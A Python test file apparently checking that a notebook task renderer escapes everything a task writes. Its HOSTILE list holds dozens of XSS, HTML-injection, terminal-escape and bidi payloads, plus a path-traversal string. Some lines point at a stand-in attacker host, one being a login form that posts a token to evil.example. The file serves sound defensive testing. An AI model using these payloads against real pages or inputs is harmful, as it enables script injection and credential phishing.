"""Whatever a task writes, nothing of it becomes an element, an attribute or a control sequence."""

from __future__ import annotations

import re
import unicodedata
from typing import Any

import pytest

from nbtasks.jupyter import render
from nbtasks.outcome import Failure, Variable
from nbtasks.status import Status
from tests.jupyter.page import Page
from tests.jupyter.samples import NOW, Sample, bar, ended, sample, state

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror='alert(1)'>",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    "` onclick=alert(1) `",
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert(1)//",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x",
    "<object data=x><embed src=x>",
    "<form action=//evil.example><input name=token><button>Log in</button></form>",
    "<button onclick=alert(1)>Cancel</button>",
    "<style>body{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<body onload=alert(1)>",
    "<div style='position:fixed;inset:0;background:url(//evil.example)'>",
    "red;background:url(javascript:alert(1))",
    "</div></div></div><h1>out</h1>",
    "</pre></details><script>alert(1)</script><pre>",
    "</code></summary><b onclick=x>",
    "</textarea></title></style></script><script>alert(1)</script>",
    "</td></tr></table><table><tr><td onclick=x>",
    "<!--", "-->", "<!-- --><script>", "<!doctype html>", "<?php x ?>", "<![CDATA[ <script> ]]>",
    "&lt;script&gt;", "&#60;script&#62;", "&#x3c;img src=x onerror=alert(1)&#x3e;", "&amp;lt;b&amp;gt;", "&", "&&&", "<", "<<<>>>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\u02bascript\u2039img onerror\u203a",
    "<\x00script>alert(1)</script>",
    "<scr\x00ipt>alert(1)</scr\x08ipt>",
    "\x1b[31m<b>red</b>\x1b[0m",
    "\x1b[<script>m",
    "\x1b[31;<img src=x>m",
    "\x1b[38;2;<b>;1;1mx",
    "\x1b[1;1H\x1b[2J<script>",
    "\x1b]0;<script>alert(1)</script>\x07",
    "\x1b]8;;javascript:alert(1)\x1b\\click\x1b]8;;\x1b\\",
    "\x1b]52;c;ZXZpbA==\x07",
    "\x1b]1337;File=inline=1:AAAA\x07",
    "\x1b_Gf=32;AAAA\x1b\\",
    "\x1bP$q\"p\x1b\\",
    "\x9b31m\x9d0;x\x9c<b>",
    "<b\r\n onclick\t=\x0balert(1)>",
    "safe\r<script>\rover",
    "<b\b\b\b<i>",
    "\u202e<tpircs>\u202c",
    "\u2066\u2067\u2068\u2069\ufeff\u200f",
    "\U000e003c\U000e0073\U000e003e",
    "\ud83d<b>\udc00",
    "\u2028<script>\u2029",
    "$$\\unicode{<img src=x onerror=alert(1)>}$$",
    "\\(\\href{javascript:alert(1)}{x}\\)",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}", "%s%n%x", "../../etc/passwd\x00.png",
    "javascript:alert(1)//",
    "x" * 100_000 + "<script>",
    "<" * 5_000,
    "\x1b[1m" * 5_000 + "<b>",
    "\n" * 3_000 + "<b>",
    "a\u0300" * 2_000,
]  # fmt: skip


def everywhere(text: str) -> list[Sample]:
    """Tasks that carry `text` in each place that a task, or whoever named it, can write to."""
    progress: dict[str, Any] = state(
        bar(text, 1, 3, unit=text, postfix=text, rate=2), bar("n", text, text, rate=text, elapsed=text), message=text
    )
    variables = (
        Variable(name=text, preview=text, changed=True),
        Variable(name=text, preview=text, bind=False, size=1 << 30),
        Variable(name=text, left_out=text),
    )
    failure = Failure(
        type=text,
        message=text,
        where=text,
        traceback=f'{text}\n  File "{text}", line 3, in {text}\nFile {text}:3\n{text}',
    )
    common: dict[str, Any] = {"log": f"{text}\n{text}", "reason": text, "progress": progress, "variables": variables}
    return [
        sample(text, Status.QUEUED, reason=text),
        sample(text, Status.RUNNING, reason=text, state=progress, log=text, started=NOW, spec_retries=1),
        ended(text, Status.SUCCEEDED, preview=text, has_value=True, **common),
        ended(text, Status.FAILED, failure=failure, **common),
        ended(text, Status.FAILED, kind=text, signal=9, **common),
        ended(text, Status.CANCELLED, has_value=True, preview=text, **common),
    ]


def displays(text: str) -> list[dict[str, Any]]:
    """Outputs that carry `text`."""
    data = {"image/png": text, "image/svg+xml": f"<svg>{text}", "text/plain": text, "text/html": text}
    return [
        {"output_type": "display_data", "data": data, "metadata": {"image/png": {"width": text}}},
        {"output_type": "display_data", "data": {"image/png": "AAAA", "text/plain": text}, "metadata": text},
        {"output_type": "execute_result", "data": {"text/html": text, "text/plain": [text, text]}, "metadata": {}},
    ]


def bundles(text: str) -> list[dict[str, str]]:
    tasks = everywhere(text)
    cards = [render.card(task, now=NOW, outputs=displays(text), kept={text: text}, notes=[text]) for task in tasks]
    return [*cards, render.table(tasks, now=NOW, notes=[text])]


@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_nothing_of_it_becomes_markup(text: str) -> None:
    for bundle in bundles(text):
        assert Page(bundle["text/html"]).wrong == []


@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_no_control_character_gets_through(text: str) -> None:
    for bundle in bundles(text):
        for shown in bundle.values():
            shown.encode()  # a lone surrogate could not be sent to the page
            unseen = {c for c in shown if unicodedata.category(c) in ("Cc", "Cs") and c not in "\n\t"}
            assert unseen == set()
            assert not re.search("[\u202a-\u202e\u2066-\u2069\u2028\u2029\ufeff]", shown)


@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_a_card_stays_small(text: str) -> None:
    for bundle in bundles(text):
        assert len(bundle["text/html"]) < 600_000
        assert len(bundle["text/plain"]) < 60_000


@pytest.mark.parametrize("text", ["<b>bold</b>", "a & b", "\"quoted\" 'text'", "x < y > z", "&lt;"])
def test_what_was_written_can_be_read(text: str) -> None:
    for task in everywhere(text):
        page = Page(render.card(task, now=NOW)["text/html"])
        assert text in page.text
    assert Page(render.table(everywhere(text), now=NOW)["text/html"]).text.count(text) >= 6


@pytest.mark.parametrize("text", [t for t in HOSTILE if 0 < len(t) < 200], ids=repr)
def test_a_name_never_changes_the_structure(text: str) -> None:
    plain = Page(render.card(sample("train", Status.QUEUED, reason="next in line"), now=NOW)["text/html"])
    named = Page(render.card(sample(text, Status.QUEUED, reason="next in line"), now=NOW)["text/html"])
    assert named.tags == plain.tags


def test_the_reader_of_these_tests_sees_markup_where_there_is_some() -> None:
    assert Page("<script>x</script>").wrong
    assert Page("<b onclick=x></b>").wrong
    assert Page("<div style='background:url(x:y)'></div>").wrong
    assert Page("<img src='http://evil.example/x.png'>").wrong
    assert Page("<div>").wrong
    assert Page("<!-- -->").wrong


def test_there_are_enough_of_them() -> None:
    assert len(set(HOSTILE)) >= 60
